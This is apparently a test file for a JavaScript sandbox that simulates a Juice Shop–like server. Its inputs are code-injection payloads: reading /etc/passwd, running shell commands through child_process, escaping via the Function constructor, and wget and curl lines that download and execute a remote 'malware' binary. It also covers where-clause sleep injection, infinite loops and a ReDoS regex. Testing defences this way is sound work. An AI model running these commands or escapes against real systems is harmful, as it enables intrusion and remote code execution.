import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Sandbox } from './sandbox.ts'
import type { World } from './world/world.ts'

let sandbox: Sandbox

beforeAll(() => {
  sandbox = new Sandbox({ workers: 1 })
})
afterAll(() => sandbox.close())

const WORLD: World = {
  files: { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/juice-shop/package.json': '{"name":"shop"}' },
  env: { NODE_ENV: 'production' },
  cwd: '/juice-shop',
  user: 'nonroot',
  hostname: 'fruit-1',
}

const run = (source: string) => sandbox.inWorld({ source, owner: 'anna' }, WORLD)

describe('a script in a pretend world', () => {
  it.each([
    ["require('fs').readFileSync('/etc/passwd', 'utf8').split(':')[0]", 'root'],
    [
      "global.process.mainModule.require('child_process').execSync('id').startsWith('uid=65532(nonroot)')",
      true,
    ],
    [
      "require('node:child_process').execSync('cat /etc/passwd | grep root && whoami').endsWith('nonroot\\n')",
      true,
    ],
    ['process.env.NODE_ENV + process.cwd()', 'production/juice-shop'],
    ["require('fs').readdirSync('.')", ['package.json']],
    ["require('child_process').execSync('echo hi > /tmp/note; cat /tmp/note || echo no')", 'hi\n'],
    ["String(require('child_process').exec('ls'))", '[object Object]'],
    ["(() => {}).constructor('return process.version')().startsWith('v')", true],
  ])('sees what it expects of %s', async (source, value) => {
    expect(await run(source)).toMatchObject({ value, error: undefined })
  })

  it.each([
    ["require('fs').readFileSync('/etc/shadow')", /ENOENT/],
    ["require('fs').writeFileSync('/etc/passwd', '')", /EACCES/],
    ["require('vm2')", /Cannot find module 'vm2'/],
    ["require('child_process').execSync('rm -rf /tmp && missing')", /missing: not found/],
    ['process.exit(1)', /./],
    [`require('fs').readFileSync('${import.meta.filename}')`, /ENOENT/],
  ])('is refused as on a real machine: %s', async (source, words) => {
    expect((await run(source)).error?.message).toMatch(words)
  })

  it('downloads a program and runs it, and all of it is told', async () => {
    const line = 'wget -O malware https://example.org/a/malware?raw=true && chmod +x malware && ./malware'
    const { deeds, error } = await run(`require('child_process').exec(${JSON.stringify(line)})`)
    expect(error).toBeUndefined()
    expect(deeds).toEqual({
      commands: [line],
      requests: ['https://example.org/a/malware?raw=true'],
      ran: [{ program: '/juice-shop/malware', from: 'https://example.org/a/malware?raw=true' }],
    })
  })

  it('cannot run what may not run', async () => {
    const { deeds } = await run("require('child_process').exec('curl -o x http://a.b/x && ./x')")
    expect(deeds.ran).toEqual([])
  })

  it('tells what it did even where it fails afterwards', async () => {
    const { deeds, error } = await run("require('child_process').exec('id'); throw new Error('later')")
    expect(error?.message).toBe('later')
    expect(deeds.commands).toEqual(['id'])
  })
})

describe('an expression that is asked of documents', () => {
  const documents = [{ product: 1 }, { product: 2 }, { product: 3 }]
  const where = (expression: string) => sandbox.where(expression, documents, 'anna')

  it('sees each of them as this', async () => {
    expect((await where('this.product == 2')).matches).toEqual([false, true, false])
    expect((await where('this.product == 1 || true')).matches).toEqual([true, true, true])
  })

  it('may sleep, which is counted and takes no time', async () => {
    expect((await where('this.product == sleep(999999)')).sleptMs).toBe(6_000)
    expect((await where('this.product == sleep(-1)')).sleptMs).toBe(0)
  })

  it.each(['this.product == kaboom', 'this.product == ', "process.exit() || '"])(
    'says what is wrong with %s',
    async (expression) => {
      await expect(where(expression)).rejects.toMatchObject({ name: /ReferenceError|SyntaxError/ })
    },
  )
})

describe('a script with a limit on the turns of its loops', () => {
  const limited = (source: string) =>
    sandbox.javascript({ source, mostTurns: 1_000, deadlineMs: 300, owner: 'anna' })

  it.each([
    '(function dos() { while(true); })()',
    'for (;;) {}',
    'do ; while (1)',
    'let i = 0; while (i < 2000) i++',
    'for (let a = 0; a < 100; a++) for (let b = 0; b < 100; b++) a',
  ])('is ended: %s', async (source) => {
    await expect(limited(source)).rejects.toThrow(/^Infinite loop detected - reached max iterations$/)
  })

  it.each([
    ['let n = 0; for (const x of [1, 2, 3]) n += x; n', 6],
    ['[1, 2].map((x) => x * 2)', [2, 4]],
  ])('does its work: %s', async (source, value) => {
    expect(await limited(source)).toEqual(value)
  })

  it('still runs out of time elsewhere', async () => {
    const endless = limited("/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')")
    await expect(endless).rejects.toMatchObject({ timedOut: true })
  })
})
